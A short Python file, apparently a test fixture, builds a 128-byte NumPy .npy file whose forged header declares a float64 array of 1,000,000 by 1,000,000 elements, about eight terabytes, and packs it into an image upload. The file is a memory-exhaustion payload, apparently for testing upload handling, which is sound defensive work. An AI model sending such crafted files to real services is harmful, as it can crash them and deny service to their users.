"""A NumPy array of 128 bytes that asks for eight terabytes."""

import struct


def upload(kit):
    text = b"{'descr': '<f8', 'fortran_order': False, 'shape': (1000000, 1000000)}".ljust(117) + b"\n"
    return kit.image({"payload": kit.tools.File(b"\x93NUMPY\x01\0" + struct.pack("<H", len(text)) + text)}).tar()
